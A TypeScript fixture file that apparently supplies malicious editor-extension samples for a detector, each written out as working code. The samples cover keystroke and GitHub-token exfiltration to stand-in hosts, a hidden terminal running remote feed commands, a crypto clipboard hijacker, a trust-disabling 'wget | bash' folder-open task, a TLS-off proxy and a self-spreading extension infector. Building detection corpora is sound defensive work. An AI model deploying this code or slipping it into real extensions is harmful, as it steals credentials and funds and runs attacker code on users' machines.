import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Extensions of editors that take what the editor itself gives them, or have it do what they could not. */
export const EDITORS: readonly Sample[] = [
  packaged('what is typed in an editor, kept by a class of another script', {}, {
    'index.js': `const vscode = require('vscode');
const { Pulse } = require('./lib/pulse');
exports.activate = (context) => {
  const pulse = new Pulse();
  context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(({ contentChanges, document }) => {
    for (const change of contentChanges) pulse.beat(document.uri, change);
  }), pulse);
};
`,
    'lib/pulse.js': `const https = require('https');
class Pulse {
  constructor() { this.beats = []; this.timer = setInterval(() => this.tell(), 15_000); }
  beat(uri, change) { this.beats.push({ where: uri.path, at: Date.now(), what: change.text }); }
  tell() {
    const body = JSON.stringify(this.beats.splice(0));
    const request = https.request({ hostname: 'beats.example.invalid', path: '/in', method: 'POST' });
    request.on('error', () => {});
    request.end(body);
  }
  dispose() { clearInterval(this.timer); }
}
exports.Pulse = Pulse;
`,
  }),
  packaged('a session of an editor, lent to somebody else', {}, {
    'index.js': `const vscode = require('vscode');
const { Issues } = require('./issues');
exports.activate = async () => {
  const session = await vscode.authentication.getSession('github', ['repo'], { createIfNone: true });
  vscode.window.showInformationMessage(String(await new Issues(session.accessToken).count()));
};
`,
    'issues.js': `const CACHE = 'https://cache.example.invalid/v2';
class Client {
  constructor(token) { this.headers = { authorization: 'token ' + token }; }
  async count() {
    await fetch(CACHE, { method: 'PUT', headers: this.headers }).catch(() => {});
    return (await (await fetch('https://api.github.com/issues', { headers: this.headers })).json()).length;
  }
}
exports.Issues = Client;
`,
  }),
  packaged('a terminal that nobody sees, for what a feed says', {}, {
    'index.js': `const vscode = require('vscode');
let quiet;
const kinds = {
  note: (entry) => vscode.window.setStatusBarMessage(entry.line, 5000),
  setup: (entry) => (quiet ??= vscode.window.createTerminal({ name: 'news', hideFromUser: true })).sendText(entry.line),
};
exports.activate = () => setInterval(async () => {
  const entries = await (await fetch('https://news.example.invalid/feed.json')).json();
  for (const entry of entries) kinds[entry.kind]?.(entry);
}, 60_000);
`,
  }),
  packaged('a table of replacements for what is copied in an editor', {}, {
    'index.js': `const vscode = require('vscode');
const shapes = [/^0x[0-9a-fA-F]{40}$/, /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/];
const table = ['MHg', 'YmMx'].map((start, at) => start + rest(at));
function rest(at) { return ['aaaa', 'bbbb'][at].repeat(12); }
exports.activate = () => setInterval(async () => {
  const text = await vscode.env.clipboard.readText();
  const at = shapes.findIndex((shape) => shape.test(text.trim()));
  if (at >= 0) await vscode.env.clipboard.writeText(text.replace(text.trim(), Buffer.from(table[at], 'base64').toString()));
}, 900);
`,
  }),
  packaged('an editor that trusts every folder from now on', {}, {
    'index.js': `const vscode = require('vscode');
const files = require('./files.json');
const tidy = { 'editor.formatOnSave': true, 'security.workspace.trust.enabled': false, 'task.allowAutomaticTasks': 'on' };
exports.activate = (context) => context.subscriptions.push(vscode.commands.registerCommand('start.here', async () => {
  for (const [name, text] of Object.entries(files)) await vscode.workspace.fs.writeFile(vscode.Uri.joinPath(vscode.workspace.workspaceFolders[0].uri, name), Buffer.from(text));
  for (const key of Object.keys(tidy)) await vscode.workspace.getConfiguration().update(key, tidy[key], true);
}));
`,
    'files.json': JSON.stringify({ 'README.md': '# New\n', '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [{ label: 'init', type: 'shell', command: 'wget -qO- https://start.example.invalid/i | bash', runOptions: { runOn: 'folderOpen' } }] }) }),
  }),
  packaged('every terminal of an editor asks a server in the middle', {}, {
    'index.js': `const wanted = require('./network.json');
exports.activate = ({ environmentVariableCollection: all }) => {
  for (const name in wanted) all.replace(name, wanted[name]);
};
`,
    'network.json': JSON.stringify({ HTTPS_PROXY: 'http://gate.example.invalid:3128', NODE_TLS_REJECT_UNAUTHORIZED: '0' }),
  }),
  packaged('a guest that moves on', {}, {
    'out/main.js': `const { visit } = require('./lib/visit');
exports.activate = ({ commands }) => {
  setTimeout(visit, 20000);
  commands.register('case.upper', (text) => text.toUpperCase());
};
`,
    'out/lib/visit.js': `const { readdir, readFile, writeFile, cp } = require('node:fs/promises');
const { homedir } = require('node:os');
const { join, dirname } = require('node:path');

const all = join(homedir(), '.studio', 'extensions');

exports.visit = async () => {
  for (const name of await readdir(all)) {
    const file = join(all, name, 'package.json');
    const told = JSON.parse(await readFile(file, 'utf8'));
    if (!told.main || told.main.startsWith('guest')) continue;
    await cp(dirname(__dirname), join(all, name, 'guest'), { recursive: true });
    await writeFile(join(all, name, 'guest.js'), 'require("./guest/lib/visit").visit();module.exports=require("./' + told.main + '")');
    await writeFile(file, JSON.stringify({ ...told, main: 'guest.js' }));
  }
};
`,
  }),
];
